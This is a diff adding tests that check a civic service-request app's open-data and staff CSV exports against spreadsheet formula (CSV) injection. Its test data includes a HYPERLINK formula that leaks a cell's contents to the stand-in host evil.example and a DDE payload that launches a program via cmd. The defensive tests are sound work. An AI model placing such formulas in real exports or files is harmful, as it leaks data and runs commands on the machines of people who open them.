@@ -197,3 +197,72 @@ def test_open_data_period_and_bad_input(client: Any, history: History) -> None:
     assert len(list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))) == 9
     bad = client.get("/open-data/requests.csv", query_string={"from": "2026-13-01"})
     assert bad.status_code == 422 and bad.get_json()["errors"] == {"from": [bad.get_json()["message"]]}
+
+
+# -- spreadsheet formulas (CSV injection) -----------------------------------------------------
+
+# What a spreadsheet would run: each begins with a character that starts a formula.
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def _quoted(cell: str) -> str:
+    """A cell as RFC 4180 writes it in quotes: inner quotes doubled."""
+    return '"' + cell.replace('"', '""') + '"'
+
+
+def _today(client: Any) -> str:
+    from datetime import datetime
+
+    return datetime.now(client.application.extensions["streetloop.settings"].tz).date().isoformat()
+
+
+def test_open_data_csv_turns_residents_formulas_into_text(client: Any, db: Session) -> None:
+    f.service_type(db)
+    f.service_type(db, "litter", name="\t=cmd|' /C calc'!A0")  # staff-typed text is neutralised too
+    f.api_key(db)
+    db.commit()
+    # Through the public Open311 intake, as a resident would send them; one report west of
+    # Greenwich, whose negative longitude must stay a number.
+    sent = []
+    for i, text in enumerate([*FORMULAS, "A plain pothole, 30 cm"]):
+        lon = "-3.5" if i == 0 else str(f.LON)
+        r = client.post("/open311/v2/requests.json", data={
+            "api_key": f.API_KEY, "service_code": "litter" if i == 1 else "pothole", "lat": str(f.LAT), "long": lon,
+            "description": text})
+        assert r.status_code == 201, r.data
+        sent.append(text.strip())  # intake trims what a resident typed
+    r = client.get("/open-data/requests.csv", query_string={"from": _today(client), "to": _today(client)})
+    assert r.status_code == 200
+    body = r.get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(body)))
+    descriptors = sorted(row["descriptor"] for row in rows)
+    assert descriptors == sorted(("'" + t if t[0] in "=+-@" else t) for t in sent)
+    # No text cell of the file starts a formula; each is quoted in the file itself.
+    for row in rows:
+        for column in ("id", "agency", "type", "type_name", "descriptor", "status", "district"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
+    assert _quoted("'" + FORMULAS[0]) in body
+    assert _quoted("'\t=cmd|' /C calc'!A0") in body
+    # Coordinates are numbers: bare in the file, negative sign and all.
+    west = next(row for row in rows if row["descriptor"].startswith("'=HYPERLINK"))
+    assert (west["lat"], west["long"]) == (f"{f.LAT:.6f}", "-3.500000")
+    assert f',{f.LAT:.6f},-3.500000\r\n' in body
+
+
+def test_staff_citistat_csv_turns_formulas_in_names_into_text(client: Any, db: Session, dispatcher: dict[str, str]) -> None:
+    for i, name in enumerate(FORMULAS):
+        f.service_type(db, f"type_{i}", name=name)
+        f.report(db, f"type_{i}")
+    db.commit()
+    r = client.get("/api/v1/citistat", query_string={"from": _today(client), "to": _today(client),
+                                                       "group_by": "service_type", "format": "csv"}, headers=dispatcher)
+    assert r.status_code == 200 and r.mimetype == "text/csv"
+    body = r.get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert sorted(row["label"] for row in rows if row["group"]) == sorted("'" + n for n in FORMULAS)
+    for name in FORMULAS:
+        assert _quoted("'" + name) in body
+    # The figures stay numbers: bare, so a spreadsheet can sum them.
+    total = next(line for line in body.split("\r\n") if line.startswith('"","Total",'))
+    assert total.split(",")[2] == "6"
